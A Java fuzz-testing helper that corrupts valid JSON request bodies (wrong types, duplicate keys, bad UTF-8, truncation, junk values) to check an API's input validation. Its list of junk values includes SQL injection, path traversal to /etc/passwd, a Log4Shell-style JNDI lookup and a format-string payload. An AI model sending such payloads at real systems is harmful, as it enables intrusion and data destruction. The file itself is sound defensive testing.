package dev.kontor.journeys;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.jspecify.annotations.Nullable;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * A body with one fault, or none.
 *
 * @param pointer of the field that the answer has to name; null when the fault has no field, or
 *     might be none
 */
record Spoiled(byte[] body, @Nullable String pointer) {
    private static final String DEEP = "[".repeat(40) + "1" + "]".repeat(40);
    private static final List<String> JUNK =
            List.of(
                    "null",
                    "true",
                    "-1",
                    "0",
                    "1.5",
                    "1e400",
                    "-9223372036854775808",
                    "9223372036854775807",
                    "99999999999999999999999999",
                    "\"\"",
                    "\" \"",
                    "\"\\u0000\"",
                    "\"\\ud800\"",
                    "\"\\udc00x\"",
                    "\"\\uffff\"",
                    "\"\u202e\u0301\ud83d\ude00\"",
                    "\"' or 1=1; drop table orders.orders\"",
                    "\"../../etc/passwd\"",
                    "\"${jndi:ldap://192.0.2.1/a}\"",
                    "\"%s%n{0}\"",
                    "\"" + "x".repeat(3_000) + "\"",
                    "\"ord_00000000000000000000000000\"",
                    "\"prc_zzzzzzzzzzzzzzzzzzzzzzzzzz\"",
                    "\"9999-12-31T23:59:59Z\"",
                    "\"+1000000000-12-31T23:59:59.999999999Z\"",
                    "\"-1000000000-01-01T00:00:00Z\"",
                    "\"0000-01-01\"",
                    "\"+999999999-12-31\"",
                    "\"XXX\"",
                    "\"1e999999999\"",
                    "1e-400",
                    "0.00000000000000000000000001",
                    "[]",
                    "{}",
                    "[null]",
                    "{\"a\": {\"b\": []}}",
                    DEEP,
                    "NaN",
                    "tru",
                    "\"unterminated");

    static Spoiled of(ObjectNode valid, Random random) {
        String text = valid.toString();
        return switch (random.nextInt(12)) {
            case 0 -> bytes(text);
            case 1 -> wrongType(valid, random);
            case 2 -> unknownField(valid);
            case 3 -> bytes(text.replaceFirst("\\{", "{\"twice\": 1, \"twice\": 2, "));
            case 4 -> badUtf8(text);
            case 5 -> bytes(text.substring(0, random.nextInt(text.length())));
            case 6 -> new Spoiled(utf8("[" + text + "]"), "");
            case 7 -> bytes(text + "]");
            default -> junk(valid, random);
        };
    }

    /** Every value of the body is of some type, and an object with a list in it is of none. */
    private static Spoiled wrongType(ObjectNode valid, Random random) {
        List<String> places = new ArrayList<>();
        scalars(valid, "", places);
        if (places.isEmpty()) {
            return new Spoiled(utf8("7"), "");
        }
        String place = places.get(random.nextInt(places.size()));
        return new Spoiled(utf8(replaced(valid, place, "{\"zz\": []}")), place);
    }

    private static Spoiled unknownField(ObjectNode valid) {
        return new Spoiled(utf8(valid.deepCopy().put("zz~/", 1).toString()), "/zz~0~1");
    }

    private static Spoiled junk(ObjectNode valid, Random random) {
        List<String> places = new ArrayList<>();
        all(valid, "", places);
        String place = places.get(random.nextInt(places.size()));
        return bytes(replaced(valid, place, JUNK.get(random.nextInt(JUNK.size()))));
    }

    /** The body's text with other text in place of one value. */
    private static String replaced(ObjectNode valid, String place, String value) {
        if (place.isEmpty()) {
            return value;
        }
        ObjectNode copy = valid.deepCopy();
        int last = place.lastIndexOf('/');
        JsonNode parent = copy.at(place.substring(0, last));
        String name = place.substring(last + 1);
        if (parent instanceof ObjectNode object) {
            object.put(name, "@here@");
        } else {
            ((ArrayNode) parent).set(Integer.parseInt(name), "@here@");
        }
        return copy.toString().replace("\"@here@\"", value);
    }

    private static void scalars(JsonNode node, String pointer, List<String> into) {
        if (node.isValueNode()) {
            into.add(pointer);
        }
        children(node, pointer, into, false);
    }

    private static void all(JsonNode node, String pointer, List<String> into) {
        into.add(pointer);
        children(node, pointer, into, true);
    }

    private static void children(JsonNode node, String pointer, List<String> into, boolean all) {
        if (node instanceof ObjectNode object) {
            object.properties()
                    .forEach(it -> visit(it.getValue(), pointer + "/" + it.getKey(), into, all));
        }
        for (int i = 0; node.isArray() && i < node.size(); i++) {
            visit(node.get(i), pointer + "/" + i, into, all);
        }
    }

    private static void visit(JsonNode node, String pointer, List<String> into, boolean all) {
        if (all) {
            all(node, pointer, into);
        } else {
            scalars(node, pointer, into);
        }
    }

    private static Spoiled badUtf8(String text) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        bytes.writeBytes(utf8("{\"note\": \"broken "));
        bytes.writeBytes(new byte[] {(byte) 0xc3, 0x28, (byte) 0xff});
        bytes.writeBytes(utf8("\", " + text.substring(1)));
        return new Spoiled(bytes.toByteArray(), null);
    }

    private static Spoiled bytes(String text) {
        return new Spoiled(utf8(text), null);
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
